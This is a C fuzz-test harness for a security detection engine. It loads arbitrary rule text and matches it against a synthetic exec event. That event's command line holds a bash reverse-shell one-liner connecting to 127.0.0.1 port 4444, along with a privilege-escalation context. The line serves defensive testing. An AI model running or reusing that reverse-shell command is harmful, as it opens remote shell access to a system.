/* fuzz_rules.c - rule files are outside input: any bytes given to the rule loader must load or be
 * reported, compile, and match an event without crashing, leaking or reading out of bounds. */
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include "engine/engine.h"

static void on_alert(void *ctx, struct event *a)
{
    (void)ctx;
    event_free(a);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    struct engine *e = NULL;
    struct vg_error err = {{0}};
    if (engine_new(NULL, &e, &err))
        return 0;
    if (engine_load_text(e, (const char *)data, size, "fuzz", &err) >= 0 && !engine_compile(e, &err)) {
        struct event *ev = event_new(TBL_PROCESS_EVENTS, "exec");
        if (ev) {
            event_add_str(ev, FLD_EXE, "/tmp/x/bash");
            event_add_str(ev, FLD_CMDLINE, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
            event_add_str(ev, FLD_ANCESTRY, "[{\"exe\":\"/usr/sbin/nginx\",\"pid\":1,\"cmdline\":\"nginx\"}]");
            event_add_int(ev, FLD_UID, 33);
            event_add_int(ev, FLD_EUID, 0);
            for (int i = 0; i < 3; i++)
                engine_match(e, ev, (uint64_t)i + 1, on_alert, NULL);
            engine_flush(e, ev->time_ns + 3600ull * 1000000000ull, on_alert, NULL);
            event_free(ev);
        }
    }
    engine_free(e);
    return 0;
}
